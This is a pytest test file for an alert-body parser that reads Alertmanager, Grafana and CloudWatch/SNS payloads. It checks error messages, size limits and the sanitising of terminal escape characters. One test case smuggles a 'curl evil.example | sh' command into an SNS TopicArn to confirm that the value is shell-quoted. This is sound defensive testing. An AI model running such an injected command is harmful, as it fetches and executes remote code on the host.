"""What is read of the bodies that others send, and what is said of those that cannot be read."""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runbook_engine.alerting.alerts import Alert, AlertError, Body, Status
from runbook_engine.alerting.json_text import MOST_BYTES
from runbook_engine.alerting.reading import read_body
from runbook_engine.document.triggers import AlertSource
from runbook_engine.hostile import one_line

EXAMPLES = Path(__file__).parents[3] / "examples" / "alerts"
ALERT = {"status": "firing", "labels": {"alertname": "Slow"}, "startsAt": "2026-11-23T14:05:31Z", "fingerprint": "f1"}


def body(*alerts: Mapping[str, Any], **more: Any) -> bytes:
    return json.dumps({"version": "4", "groupKey": "g", "alerts": alerts, **more}).encode()


def one(**changed: Any) -> Alert:
    (alert,) = read_body(body({**ALERT, **changed})).alerts
    return alert


def refused(data: bytes) -> str:
    with pytest.raises(AlertError) as error:
        read_body(data)
    return str(error.value)


def sns(alarm: Any, **more: Any) -> bytes:
    message = alarm if isinstance(alarm, str) else json.dumps(alarm)
    return json.dumps({"Type": "Notification", "TopicArn": "arn:t", "Message": message, **more}).encode()


ALARM = {"AlarmName": "db", "NewStateValue": "ALARM", "StateChangeTime": "2026-11-23T14:05:42.236+0000"}


def example(name: str) -> Body:
    return read_body((EXAMPLES / f"{name}.json").read_bytes())


def test_a_body_of_alertmanager() -> None:
    found = example("alertmanager")
    (alert,) = found.alerts
    assert found.source is alert.source is AlertSource.ALERTMANAGER
    assert (alert.name, alert.status, alert.fingerprint) == ("ApiLatencyHigh", Status.FIRING, "5a3f1c9be2a01d77")
    assert alert.group_key == '{}:{alertname="ApiLatencyHigh"}'
    assert alert.starts_at == pytest.approx(1795442731.123456)
    assert alert.ends_at is None
    assert alert.labels["severity"] == "critical"
    assert alert.summary == "The P95 response time is above 1 s"
    assert alert.url.startswith("http://prometheus.example.com:9090/")


def test_a_body_of_grafana() -> None:
    found = example("grafana")
    (alert,) = found.alerts
    assert found.source is alert.source is AlertSource.GRAFANA
    assert alert.name == "DatabaseConnectionsHigh"
    assert alert.starts_at == 1795439400.0
    assert alert.url.endswith("viewPanel=4")


def test_an_alarm_of_cloudwatch_through_sns_and_by_itself() -> None:
    (alert,) = example("cloudwatch").alerts
    envelope = json.loads((EXAMPLES / "cloudwatch.json").read_text())
    assert read_body(envelope["Message"].encode()).alerts == (alert,)
    assert alert.source is AlertSource.CLOUDWATCH
    assert (alert.name, alert.status) == ("prod-rds-production-db-storage", Status.FIRING)
    assert alert.labels == {
        "DBInstanceIdentifier": "production-db",
        "Namespace": "AWS/RDS",
        "MetricName": "FreeStorageSpace",
        "Region": "US East (N. Virginia)",
        "AWSAccountId": "123456789012",
    }
    assert alert.summary == "More than 85% of the storage is in use"


def test_an_alarm_of_eventbridge_is_the_one_that_sns_brings() -> None:
    (alert,), (other,) = example("eventbridge").alerts, example("cloudwatch").alerts
    assert alert.key == other.key
    assert (alert.name, alert.summary, alert.derived) == (other.name, other.summary, other.derived)
    assert alert.labels == {name: value for name, value in other.labels.items() if name != "Region"}


def test_an_alarm_that_is_over_is_the_one_that_fired() -> None:
    (fired,) = read_body(sns(ALARM)).alerts
    (over,) = read_body(sns({**ALARM, "NewStateValue": "OK", "StateChangeTime": "2026-11-23T15:00:00Z"})).alerts
    assert over.status is Status.RESOLVED
    assert over.identity == fired.identity
    assert over.key != fired.key


def test_an_alarm_with_too_few_data_is_told_and_nothing_is_done() -> None:
    found = read_body(sns({**ALARM, "NewStateValue": "INSUFFICIENT_DATA", "NewStateReason": "no datapoints"}))
    assert found.alerts == ()
    assert found.notes == ("the alarm db has too few data, so that nothing is done: no datapoints",)


@pytest.mark.parametrize(
    "changed",
    [
        {"startsAt": "2026-11-23T15:05:31+01:00"},
        {"annotations": {"summary": "other"}},
        {"endsAt": "2026-11-23T18:00:00Z"},
    ],
)
def test_an_alert_that_is_sent_again_has_the_same_key(changed: Mapping[str, Any]) -> None:
    assert one(**changed).key == one().key


@pytest.mark.parametrize(
    "changed", [{"startsAt": "2026-11-23T15:05:31Z"}, {"status": "resolved"}, {"fingerprint": "f2"}]
)
def test_another_alert_has_another_key(changed: Mapping[str, Any]) -> None:
    assert one(**changed).key != one().key
    assert read_body(body(ALERT, groupKey="h")).alerts[0].key != one().key


def test_however_long_a_group_key_is_all_of_it_counts() -> None:
    keys = {read_body(body(ALERT, groupKey="g" * 5_000 + end)).alerts[0].key for end in "ab"}
    assert len(keys) == 2


def test_without_a_fingerprint_the_labels_tell_alerts_apart() -> None:
    kinds = [one(fingerprint="", labels={"alertname": "Slow", "pod": pod}).key for pod in ("a", "b", "a")]
    assert kinds[0] == kinds[2] != kinds[1]


def test_how_many_alerts_the_sender_left_out_is_told() -> None:
    found = read_body(body(ALERT, truncatedAlerts=7))
    assert found.truncated == 7
    assert "left out 7 alerts of this group" in found.notes[0]


def test_thousands_of_alerts_are_read() -> None:
    found = read_body(body(*({**ALERT, "fingerprint": str(number)} for number in range(20_000))))
    assert len({each.key for each in found.alerts}) == 20_000


def test_what_acts_on_a_terminal_or_hides_is_made_visible() -> None:
    alert = one(labels={"alertname": "Slow\x1b[2J\n\u202eevil", "a\x00b": "x\x1b]0;y\x07", "lone": "\ud800"})
    shown = alert.name + "".join(alert.labels) + "".join(alert.labels.values())
    assert not any(character in shown for character in "\x1b\x00\x07\u202e\ud800")
    assert alert.name == "Slow␛[2J ⟨U+202E⟩evil"
    alert.key.encode()


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "the body is empty"),
        (b"{", "the body is no JSON: expecting property name enclosed in double quotes at line 1, column 2"),
        (b'{"alerts": [\n  {"a": 1,}]}', "at line 2, column"),
        (b"\xff\xfe{", "not in UTF-8: byte 1"),
        (b"[]", "the body is a list, where an object is expected"),
        (b"[" * 100_000, "levels deep"),
        (b'{"alerts": ' + b"[" * 70 + b"]" * 70 + b"}", "nested more than 64 levels deep"),
        (b'{"alerts": [{"labels": {"a": "1", "a": "2"}}]}', 'alerts[0].labels has the key "a" twice'),
        (b'{"\x1b[2J": 1}', "no JSON: invalid control character"),
        (b'{"\\u001b[2J": {"a": 1, "a": 2}}', '["␛[2J"] has the key "a" twice'),
        (b'{"alerts": [],\n "values": {"a": "NaN", "B": NaN}}', "it has no NaN at line 2, column 30"),
        (b'{"alerts": 1' + b"0" * 5_000 + b"}", "alerts is a number, where a list is expected"),
        (b'{"x": 1}', "nobody known here sends such a body; what is read is a body of Alertmanager or Grafana"),
        (b'{"ruleName": "a", "evalMatches": [1]}', "legacy alerting"),
        (body(version="3"), "of version '3'"),
        (body("text"), "alerts[0] is a text, where an object is expected"),  # type: ignore[arg-type]
        (sns("Hello"), "Message is no alarm of CloudWatch, but a text for people"),
        (sns("{"), "Message is no JSON"),
        (sns({"a": 1}), "it has no AlarmName and NewStateValue"),
        (sns({**ALARM, "NewStateValue": "BROKEN"}), "Message.NewStateValue is 'BROKEN', where ALARM, OK"),
        (sns("", Type="SubscriptionConfirmation", SubscribeURL="http://127.0.0.1:1/"), "aws sns confirm-subscription --topic-arn arn:t --token"),
        (
            sns("", Type="SubscriptionConfirmation", TopicArn="arn:t; curl evil.example | sh #"),
            "aws sns confirm-subscription --topic-arn 'arn:t; curl evil.example | sh #' --token",
        ),
        (sns("", Type="UnsubscribeConfirmation"), "no more alarms come"),
        (sns("", Type="Other"), "Type is 'Other', where Notification is expected"),
    ],
)  # fmt: skip
def test_what_cannot_be_read_is_refused_with_its_place(data: bytes, says: str) -> None:
    told = refused(data)
    assert says in told
    assert told.isprintable()


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (body({**ALERT, "labels": {"severity": ["a"]}}), "alerts[0].labels.severity is a list, where a text is expected"),
        (body({**ALERT, "labels": {"a b": 5}}), 'alerts[0].labels["a b"] is a number, where a text is expected'),
        (body({**ALERT, "labels": {"a": None}}), "alerts[0].labels.a is null, where a text is expected"),
        (body({**ALERT, "labels": []}), "alerts[0].labels is a list, where an object is expected"),
        (body(ALERT, {**ALERT, "status": "pending"}), "alerts[1].status is 'pending', where firing or resolved"),
        (body({**ALERT, "startsAt": "yesterday"}), "alerts[0].startsAt is no time: 'yesterday'"),
        (body({"status": "firing", "labels": {}}), "alerts[0].startsAt says no time"),
        (body({**ALERT, "labels": {str(number): "" for number in range(501)}}), "alerts[0].labels has 501 entries"),
        (body(ALERT, truncatedAlerts=-1), "truncatedAlerts is a number, where a count is expected"),
        (sns({**ALARM, "Trigger": {"Dimensions": [{"name": "a"}]}}), "Message.Trigger.Dimensions[0].Value is missing"),
    ],
)  # fmt: skip
def test_what_an_alert_can_do_without_is_set_aside_and_told(data: bytes, says: str) -> None:
    found = read_body(data)
    assert len(found.alerts) == 1
    (odd,) = found.odd
    assert says in odd
    assert odd.isprintable()


def test_an_odd_label_costs_no_other_label_and_no_other_alert() -> None:
    odd = {
        **ALERT,
        "labels": {"alertname": "Slow", "a": ["x"], "pod": "b"},
        "annotations": {"summary": 5},
        "fingerprint": "f2",
    }
    found = read_body(body(ALERT, odd, "text", {**ALERT, "status": "odd"}, status="firing"))  # type: ignore[arg-type]
    assert [dict(each.labels) for each in found.alerts] == [
        {"alertname": "Slow"},
        {"alertname": "Slow", "pod": "b"},
        {"alertname": "Slow"},
    ]
    # Whoever says that the body fires says so of an alert of which it cannot be read.
    assert {each.status for each in found.alerts} == {Status.FIRING}
    assert found.unread == 1
    assert [each.partition(" is ")[0] for each in found.odd] == [
        "alerts[1].labels.a",
        "alerts[1].annotations.summary",
        "alerts[2]",
        "alerts[3].status",
    ]


def test_however_much_is_odd_some_of_it_is_told() -> None:
    found = read_body(body(*({**ALERT, "labels": {"a": []}, "fingerprint": str(number)} for number in range(100))))
    assert len(found.odd) == 21
    assert found.odd[-1] == "and 80 more such things"


def test_a_body_of_ten_mebibytes_is_read_and_one_byte_more_is_refused() -> None:
    annotations = {"summary": "x" * 1_000_000}
    alerts = [{**ALERT, "fingerprint": str(number), "annotations": annotations} for number in range(10)]
    whole = body(*alerts)
    whole += b" " * (MOST_BYTES - len(whole))
    assert len(read_body(whole).alerts) == 10
    assert "the body has more than 10 MiB, which is the most that is taken" in refused(whole + b" ")


JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)
KEYS = st.sampled_from(
    ["version", "groupKey", "alerts", "truncatedAlerts", "title", "status", "labels", "annotations", "startsAt", "endsAt", "fingerprint",
     "Type", "TopicArn", "Message", "AlarmName", "NewStateValue", "StateChangeTime", "AlarmArn", "Trigger", "Dimensions", "name", "value"]
)  # fmt: skip
WORDS = st.sampled_from(
    [
        "4",
        "firing",
        "resolved",
        "Notification",
        "ALARM",
        "OK",
        "2026-11-23T14:05:31Z",
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59-12:00",
        "a",
        "",
    ]
)
BODIES: st.SearchStrategy[Any] = st.recursive(
    WORDS | JSON, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=9), max_leaves=20
)


def holds(data: bytes) -> None:
    """Whatever the bytes: alerts that can be kept and shown, or our error."""
    try:
        found = read_body(data)
    except AlertError as error:
        assert one_line(str(error)) == str(error)  # noqa: PT017 - one of the two
        return
    for each in found.alerts:
        f"{each.key} {each.name} {dict(each.labels)} {each.summary}".encode()
        assert "\x1b" not in each.name


@given(st.binary() | st.text().map(str.encode))
def test_any_bytes_give_alerts_or_our_error(data: bytes) -> None:
    holds(data)


@given(BODIES)
def test_any_json_gives_alerts_or_our_error(value: Any) -> None:
    holds(json.dumps(value).encode())


@given(st.dictionaries(KEYS, WORDS | JSON, max_size=9), st.lists(st.dictionaries(KEYS, WORDS | JSON)))
def test_any_changed_alert_gives_alerts_or_our_error(changed: dict[str, Any], alerts: list[Any]) -> None:
    holds(json.dumps({"alerts": [{**ALERT, **changed}, *alerts]}).encode())
    holds(sns({**ALARM, **changed}))
    holds(sns(ALARM, **changed))
